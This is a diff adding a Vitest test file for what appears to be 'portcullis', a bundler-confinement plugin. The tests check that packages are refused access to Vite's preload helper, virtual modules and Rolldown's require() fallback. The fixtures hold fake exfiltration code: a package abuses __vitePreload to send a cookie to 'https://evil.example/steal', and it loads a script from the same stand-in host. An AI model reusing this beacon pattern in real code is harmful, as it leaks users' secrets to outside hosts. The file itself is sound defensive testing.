@@ -1,0 +1,101 @@
+// Row 58 of THREATS.md: packages reach only the bundler helpers the bundler itself injected into them. Vite's preload
+// helper writes <link> elements with the real document: a package that imports it by name is refused, and the one
+// Vite injects for a package's own dynamic import() is fine.
+import vm from 'node:vm';
+import { describe, expect, it } from 'vitest';
+import { localPackage, makeApp, rollupBuild, viteBuild } from './test-builds.js';
+import { windowLikeContext } from './test-realm.js';
+
+const beacon = (specifier: string) =>
+  makeApp({
+    'package.json': { name: 'app', dependencies: { pkg: '*' } },
+    'main.js': `export { beacon } from 'pkg';`,
+    'portcullis.policy.json': { resources: { pkg: {} } },
+    ...localPackage('pkg', {
+      'index.js': `import { __vitePreload as preload } from ${JSON.stringify(specifier)};
+        export const beacon = (secret) => preload(() => Promise.resolve(), ['https://evil.example/steal?' + secret + '.css']);`,
+    }),
+  });
+
+/** A window whose document records the <link> elements appended to its head. */
+async function runWithDocument(code: string): Promise<{ exports: Record<string, unknown>; calls: () => string[] }> {
+  const realm = windowLikeContext();
+  vm.runInContext(
+    `const links = [];
+    globalThis.__links = links;
+    globalThis.URL = class { constructor(s) { this.href = String(s); this.pathname = this.href; } };
+    const element = () => ({ relList: { supports: () => true }, addEventListener(type, fn) { if (type === 'load') Promise.resolve().then(() => fn({ type })); }, removeEventListener() {}, setAttribute() {} });
+    globalThis.document = { createElement: element, querySelector: () => null, querySelectorAll: () => [], getElementsByTagName: () => [],
+      head: { appendChild: (link) => links.push(link.rel + ' ' + link.href) } };`,
+    realm.context,
+  );
+  const mod = new vm.SourceTextModule(code, { context: realm.context, initializeImportMeta: (meta) => void (meta.url = 'https://app.example/assets/main.js') });
+  await mod.link(() => {
+    throw new Error('no imports');
+  });
+  await mod.evaluate();
+  return { exports: mod.namespace as Record<string, unknown>, calls: () => [...(realm.context.__links as string[])] };
+}
+
+describe('row 58: bundler helpers', () => {
+  it('vite build: a package importing \\0vite/preload-helper.js writes <link> elements in a plain build, and is refused', async () => {
+    const app = beacon('\0vite/preload-helper.js');
+    const plain = await runWithDocument((await viteBuild(app, { portcullis: false })).code);
+    void (plain.exports.beacon as (s: string) => Promise<unknown>)('cookie=s3cret');
+    expect(plain.calls()).toEqual([expect.stringContaining('https://evil.example/steal?cookie=s3cret.css')]);
+    await expect(viteBuild(app)).rejects.toThrow(
+      /node_modules\/pkg\/index\.js \(package "pkg"\) imports the bundler helper "\\0vite\/preload-helper\.js", which its own code names \(line 1.*PORTCULLIS_IMPORT_DENIED/s,
+    );
+  });
+
+  it('vite build: any spelling that resolves to a helper is refused (vite/modulepreload-polyfill)', async () => {
+    const app = makeApp({
+      'package.json': { name: 'app', dependencies: { pkg: '*' } },
+      'main.js': `import 'pkg';`,
+      'portcullis.policy.json': { resources: { pkg: {} } },
+      ...localPackage('pkg', { 'index.js': `import 'vite/modulepreload-polyfill';` }),
+    });
+    await expect(viteBuild(app)).rejects.toThrow(/node_modules\/pkg\/index\.js \(package "pkg"\) imports the (virtual module|bundler helper) "(\\0)?vite\/modulepreload-polyfill.*PORTCULLIS_IMPORT_DENIED/s);
+  });
+
+  it('vite build: the preload helper Vite injects for a package\'s own import() is allowed', async () => {
+    const app = makeApp({
+      'package.json': { name: 'app', dependencies: { pkg: '*' } },
+      'main.js': `export { lazy } from 'pkg';`,
+      'portcullis.policy.json': { resources: { pkg: {} } },
+      ...localPackage('pkg', { 'index.js': `export const lazy = () => import('./lazy.js');`, 'lazy.js': `export const z = 1;` }),
+    });
+    const built = await viteBuild(app);
+    expect(built.code).toMatch(/__vitePreload\(\(\) => import\(/);
+  });
+
+  it('Rollup 4: a virtual module another plugin serves is refused to packages', async () => {
+    const app = beacon('\0real-document-helper');
+    const helper = {
+      name: 'helper',
+      resolveId: (id: string) => (id === '\0real-document-helper' ? id : null),
+      load: (id: string) => (id === '\0real-document-helper' ? `export const __vitePreload = (f, deps) => { deps.forEach((d) => fetch(d)); return f(); };` : null),
+    };
+    const plain = await rollupBuild(app, { portcullis: false, before: [helper] });
+    expect(plain.code).toContain('fetch(d)');
+    await expect(rollupBuild(app, { before: [helper] })).rejects.toThrow(/imports the virtual module "\\0real-document-helper", which is not a package.*PORTCULLIS_IMPORT_DENIED/s);
+  });
+
+  it("vite build: Rolldown's require() helper reaches the page's global require (an AMD loader) in a plain build, and is refused", async () => {
+    const app = makeApp({
+      'package.json': { name: 'app', dependencies: { pkg: '*' } },
+      'main.js': `export { load } from 'pkg';`,
+      'portcullis.policy.json': { resources: { pkg: {} } },
+      ...localPackage('pkg', { 'index.js': `exports.load = (name) => require(name);` }, { type: 'commonjs' }),
+    });
+    const realm = windowLikeContext();
+    vm.runInContext(`globalThis.require = (name) => 'the page loader loaded ' + name;`, realm.context);
+    const mod = new vm.SourceTextModule((await viteBuild(app, { portcullis: false })).code, { context: realm.context });
+    await mod.link(() => {
+      throw new Error('no imports');
+    });
+    await mod.evaluate();
+    expect((mod.namespace as { load: (n: string) => string }).load('https://evil.example/x.js')).toBe('the page loader loaded https://evil.example/x.js');
+    await expect(viteBuild(app)).rejects.toThrow(/node_modules\/pkg\/index\.js \(package "pkg"\) reaches the bundler's require\(\), which falls back to the page's global require.*PORTCULLIS_UNCONFINED_CODE/s);
+  });
+});
